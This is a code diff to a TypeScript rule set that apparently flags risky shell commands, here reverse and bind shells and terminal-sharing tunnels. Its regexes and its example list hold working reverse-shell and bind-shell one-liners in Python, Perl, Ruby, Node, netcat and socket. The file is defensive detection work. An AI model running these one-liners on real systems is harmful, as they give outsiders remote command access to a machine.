@@ -1,7 +1,12 @@
 // Rules about shells handed to somebody else.
 import { TAINT } from '../model.ts'
-import { INTERPRETERS, SHELLS } from '../wrappers.ts'
+import { interpreterName, SHELLS } from '../wrappers.ts'
 import { matching, only, type Rule, tools, verb } from './rule.ts'
+
+/** Code that speaks to the network, and code that runs commands: together, a shell for somebody else. */
+const CONNECTS = /socket|fsockopen|TCPSocket|\/inet\/tcp|Net::|net["')]*\)?\.(?:connect|createServer|Socket)/i
+const RUNS_COMMANDS =
+  /\/bin\/(?:ba|z|da)?sh|dup2|pty\.spawn|subprocess|exec|\|&|fdopen|popen|proc_open|child_process|ProcessBuilder|run\(\s*pipeline|os\.execute/
 
 const SOCKET = /^\/dev\/(?:tcp|udp)\//
 
@@ -22,14 +27,10 @@ export const SHELL_RULES: readonly Rule[] = [
         return matching(c.args, /^(?:EXEC|SYSTEM):/i).filter(() =>
           c.args.some((arg) => /^(?:TCP|UDP|OPENSSL|SCTP)/i.test(arg.text)),
         )
-      const code = isInterpreter(c.name)
-        ? matching(c.args, /socket|fsockopen|TCPSocket|\/inet\/tcp|net["')]*\)?\.connect/i)
-        : []
-      return code.filter((arg) =>
-        /\/bin\/(?:ba|z|da)?sh|dup2|pty\.spawn|subprocess|exec|\|&|fdopen|proc_open|child_process/.test(
-          arg.text,
-        ),
-      )
+      if (c.name === 'socket') return only(matching(c.args, /^-[a-z]*p/).length, matching(c.args, /sh\b/))
+      if (!isInterpreter(c.name)) return undefined
+      const read = { text: c.input.text ?? '', span: c.span, taint: c.input.taint }
+      return [...c.args, read].filter((code) => CONNECTS.test(code.text) && RUNS_COMMANDS.test(code.text))
     },
     examples: {
       risky: [
@@ -40,6 +41,9 @@ export const SHELL_RULES: readonly Rule[] = [
         'python3 -c \'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
         'perl -e \'use Socket;exec("/bin/sh -i")\'',
         'nc -lvpe /bin/sh 1',
+        "socket -qvp '/bin/sh -i' host 12345",
+        'ruby -rsocket -e \'c=TCPSocket.new("h",1);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end\'',
+        'node -e \'sh=require("child_process").spawn("/bin/sh");require("net").createServer(c=>c.pipe(sh.stdin)).listen(1)\'',
       ],
       harmless: [
         'nc -zv host 22',
@@ -113,13 +117,14 @@ export const SHELL_RULES: readonly Rule[] = [
     id: 'share-terminal',
     level: 'moderate',
     why: 'Lets others see or use this terminal, or reach this machine through another.',
-    tools: tools('ttyd gotty tmate sshx wetty ssh ngrok cloudflared localtunnel bore'),
+    tools: tools('ttyd gotty tmate sshx wetty ssh ngrok cloudflared localtunnel bore code'),
     when: (c, o) => {
       if (c.name === 'ssh')
         return only(
           c.args.some((arg) => /^-[A-Za-z]*R/.test(arg.text)),
           true,
         )
+      if (c.name === 'code') return only(verb(o) === 'tunnel', true)
       if (c.name === 'cloudflared')
         return only(verb(o) === 'tunnel' && (verb(o, 1) === 'run' || o.flag('url')), true)
       return !o.flag('help', 'version', 'h', 'v')
@@ -131,6 +136,10 @@ export const SHELL_RULES: readonly Rule[] = [
   },
 ]
 
+/** Interpreters that are more than the table of wrappers has, because nobody pipes code into them. */
+const MORE =
+  /^(?:[gmn]?awk|julia|jrunscript|jjs|groovy|scala|tclsh\d*|expect|luajit|R|octave|guile|elixir|erl|swipl|ghci)$/
+
 function isInterpreter(name: string): boolean {
-  return Object.hasOwn(INTERPRETERS, name) || /^(?:g|m)?awk$/.test(name)
+  return interpreterName(name) !== undefined || MORE.test(name)
 }
